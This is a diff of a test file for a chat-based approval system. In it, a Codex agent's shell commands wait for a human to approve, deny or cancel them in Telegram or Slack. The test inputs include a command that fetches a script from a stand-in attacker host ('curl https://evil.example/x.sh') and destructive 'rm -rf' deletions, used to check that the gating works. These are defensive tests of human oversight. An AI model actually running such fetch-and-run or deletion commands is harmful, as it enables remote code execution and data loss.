@@ -72,15 +72,15 @@ describe('Codex approvals in the chat, through a worker process', () => {
     expect(asked.reply_markup?.inline_keyboard.flat().map((b) => b.text)).toEqual(['Approve', 'Approve for session', 'Deny']);
     // Codex keeps a session grant in its child process only (issue 29, defect 8): the question says so.
     expect(asked.text).toContain('"Approve for session" lasts until the agent process restarts');
-    const { pid } = await waitForTurnStart(setup, 'run: make build');
+    const { instance } = await waitForTurnStart(setup, 'run: make build');
 
     expect((await chat.pressTelegram(chatId, asked.message_id, 5199, 'Approve')).answer?.text).toBe(`Only ${chatId} or an approver can answer this.`);
     expect((await chat.approvalsOf(String(chatId))).map((a) => a.status)).toEqual(['pending']);
-    expect(decisionsSent(setup, pid)).toEqual([]);
+    expect(decisionsSent(setup, instance)).toEqual([]);
 
     expect((await chat.pressTelegram(chatId, asked.message_id, chatId, 'Approve')).answer?.text).toBe(`Approved by ${chatId}.`);
     await chat.waitForTelegramText(chatId, (t) => t === 'codex: ran make build', 'the answer after the command ran');
-    expect(decisionsSent(setup, pid)).toEqual(['accept']);
+    expect(decisionsSent(setup, instance)).toEqual(['accept']);
     expect((await chat.telegramSent(chatId)).slice(1).map((m) => m.text)).toEqual([`Approved by ${chatId}.`, 'codex: ran make build']);
     expect((await chat.telegramSent(chatId))[0]?.reply_markup).toBeUndefined();
     expect(await chat.toolResultsOf(String(chatId))).toEqual([expect.stringContaining('ran make build')]);
@@ -105,19 +105,19 @@ describe('Codex approvals in the chat, through a worker process', () => {
     expect(asked.reply_markup?.inline_keyboard.flat().map((b) => b.text)).toEqual(['Deny']);
     const code = /\/approve (\d{6})/.exec(asked.text)?.[1];
     expect(code).toMatch(/^\d{6}$/);
-    const { pid } = await waitForTurnStart(setup, 'curl https://evil.example/x.sh');
+    const { instance } = await waitForTurnStart(setup, 'curl https://evil.example/x.sh');
 
     // The plain /approve and a wrong code approve nothing (each is decided before the webhook is answered); the question
     // stays pending. The user is told once: a refusal speaks at most once a minute per user (finding 5).
     await system.sendTelegram({ chatId, text: '/approve' });
     await system.sendTelegram({ chatId, text: `/approve ${code === '000000' ? '000001' : '000000'}` });
     await chat.waitForTelegramText(chatId, (t) => t.includes('approve it by typing /approve and the code'), 'the refusal');
-    expect(decisionsSent(setup, pid)).toEqual([]);
+    expect(decisionsSent(setup, instance)).toEqual([]);
     expect((await chat.approvalsOf(String(chatId))).map((a) => a.status)).toEqual(['pending']);
 
     await system.sendTelegram({ chatId, text: `/approve ${code}` });
     await chat.waitForTelegramText(chatId, (t) => t.startsWith('codex: ran echo'), 'the answer after the command ran');
-    expect(decisionsSent(setup, pid)).toEqual(['accept']);
+    expect(decisionsSent(setup, instance)).toEqual(['accept']);
     expect((await chat.approvalsOf(String(chatId))).map((a) => [a.status, a.decided_via])).toEqual([['approved', 'text']]);
   });
 
@@ -125,10 +125,10 @@ describe('Codex approvals in the chat, through a worker process', () => {
     const chatId = 5102;
     await system.sendTelegram({ chatId, text: 'run: rm -rf build' });
     const asked = await chat.waitForTelegramText(chatId, (t) => t.includes('rm -rf build'), 'the question about rm -rf build');
-    const { pid } = await waitForTurnStart(setup, 'run: rm -rf build');
+    const { instance } = await waitForTurnStart(setup, 'run: rm -rf build');
     expect((await chat.pressTelegram(chatId, asked.message_id, chatId, 'Deny')).answer?.text).toBe(`Denied by ${chatId}.`);
     await chat.waitForTelegramText(chatId, (t) => t === 'codex: rm -rf build was declined', 'the answer after the command was declined');
-    expect(decisionsSent(setup, pid)).toEqual(['decline']);
+    expect(decisionsSent(setup, instance)).toEqual(['decline']);
     expect((await chat.telegramSent(chatId)).map((m) => m.text)).not.toContain('codex: ran rm -rf build');
     expect(await chat.toolResultsOf(String(chatId))).toEqual([expect.stringMatching(/^declined/)]);
     expect((await chat.approvalsOf(String(chatId))).map((a) => [a.status, a.decided_via])).toEqual([['denied', 'button']]);
@@ -143,7 +143,7 @@ describe('Codex approvals in the chat, through a worker process', () => {
     await waitForQuestions(1);
     await say('/approve');
     await chat.waitForSlackText(channel, 'codex: ran make lint');
-    const { pid } = await waitForTurnStart(setup, 'run: make lint');
+    const { instance } = await waitForTurnStart(setup, 'run: make lint');
 
     await say('run: make check');
     await waitForQuestions(2);
@@ -156,7 +156,7 @@ describe('Codex approvals in the chat, through a worker process', () => {
     await waitForQuestions(3);
     await say('/deny');
     await chat.waitForSlackText(channel, 'codex: rm -rf dist was declined');
-    expect(decisionsSent(setup, pid)).toEqual(['accept', 'acceptForSession', 'decline']);
+    expect(decisionsSent(setup, instance)).toEqual(['accept', 'acceptForSession', 'decline']);
     expect((await chat.approvalsOf(channel)).map((a) => [a.status, a.decided_via, a.decided_by_user_key])).toEqual([
       ['approved', 'text', 'slack:T0SIM:U5103'],
       ['approved_for_session', 'text', 'slack:T0SIM:U5103'],
@@ -171,8 +171,8 @@ describe('Codex approvals in the chat, through a worker process', () => {
     const chatId = 5104;
     await system.sendTelegram({ chatId, text: 'ask-user' });
     expect((await system.waitForTelegram(chatId, 1)).map((m) => m.text)).toEqual(['codex: requestUserInput was refused (-32601), going on']);
-    const { pid } = await waitForTurnStart(setup, 'ask-user');
-    expect(setup.readLog().filter((m) => m.pid === pid && m.received.error).map((m) => m.received.error?.code)).toEqual([-32601]);
+    const { instance } = await waitForTurnStart(setup, 'ask-user');
+    expect(setup.readLog().filter((m) => m.instance === instance && m.received.error).map((m) => m.received.error?.code)).toEqual([-32601]);
     expect(await chat.approvalsOf(String(chatId))).toEqual([]);
   });
 
@@ -180,10 +180,10 @@ describe('Codex approvals in the chat, through a worker process', () => {
     const chatId = 5105;
     await system.sendTelegram({ chatId, text: 'run: make deploy' });
     await chat.waitForTelegramText(chatId, (t) => t.includes('make deploy'), 'the question about make deploy');
-    const { pid } = await waitForTurnStart(setup, 'run: make deploy');
+    const { instance } = await waitForTurnStart(setup, 'run: make deploy');
     await system.sendTelegram({ chatId, text: 'never mind' });
     await chat.waitForTelegramText(chatId, (t) => t === 'codex: never mind', 'the answer to the new message');
-    expect(decisionsSent(setup, pid)).toEqual(['cancel']);
+    expect(decisionsSent(setup, instance)).toEqual(['cancel']);
     expect((await chat.approvalsOf(String(chatId))).map((a) => [a.status, a.decided_via])).toEqual([['cancelled', 'cancelled']]);
     expect((await chat.turnsOf(String(chatId))).map((t) => t.status)).toEqual(['interrupted', 'completed']);
     expect((await chat.telegramSent(chatId)).map((m) => m.text)).not.toContain('codex: ran make deploy');
@@ -193,12 +193,12 @@ describe('Codex approvals in the chat, through a worker process', () => {
     const chatId = 5106;
     await system.sendTelegram({ chatId, text: 'run: make release' });
     await chat.waitForTelegramText(chatId, (t) => t.includes('make release'), 'the question about make release');
-    const { pid } = await waitForTurnStart(setup, 'run: make release');
+    const { instance } = await waitForTurnStart(setup, 'run: make release');
     await system.sendTelegram({ chatId, text: '/stop' });
     await chat.waitForTelegramText(chatId, (t) => t === 'Stopped.', 'Stopped.');
     await waitForCondition('the question to be cancelled', async () => (await chat.approvalsOf(String(chatId)))[0]?.status === 'cancelled', 10_000);
-    await waitForCondition('cancel to reach the fake', async () => decisionsSent(setup, pid).length > 0, 10_000);
-    expect(decisionsSent(setup, pid)).toEqual(['cancel']);
+    await waitForCondition('cancel to reach the fake', async () => decisionsSent(setup, instance).length > 0, 10_000);
+    expect(decisionsSent(setup, instance)).toEqual(['cancel']);
     expect((await chat.turnsOf(String(chatId))).map((t) => t.status)).toEqual(['cancelled']);
     expect((await chat.telegramSent(chatId)).map((m) => m.text)).not.toContain('codex: ran make release');
   });
@@ -222,11 +222,11 @@ describe('a Codex question nobody answers, through a worker process', () => {
     const chatId = 5201;
     await system.sendTelegram({ chatId, text: 'run: rm -rf build' });
     await chat.waitForTelegramText(chatId, (t) => t === 'codex: rm -rf build was declined', 'the answer after the deadline');
-    const { pid } = await waitForTurnStart(setup, 'run: rm -rf build');
+    const { instance } = await waitForTurnStart(setup, 'run: rm -rf build');
     const texts = (await chat.telegramSent(chatId)).map((m) => m.text);
     expect(texts[0]).toContain('rm -rf build');
     expect(texts.slice(1)).toEqual(['No answer in time: declined.', 'codex: rm -rf build was declined']);
-    expect(decisionsSent(setup, pid)).toEqual(['decline']);
+    expect(decisionsSent(setup, instance)).toEqual(['decline']);
     expect((await chat.approvalsOf(String(chatId))).map((a) => [a.status, a.decided_via])).toEqual([['expired', 'timeout']]);
     expect((await chat.turnsOf(String(chatId))).map((t) => t.status)).toEqual(['completed']);
   });
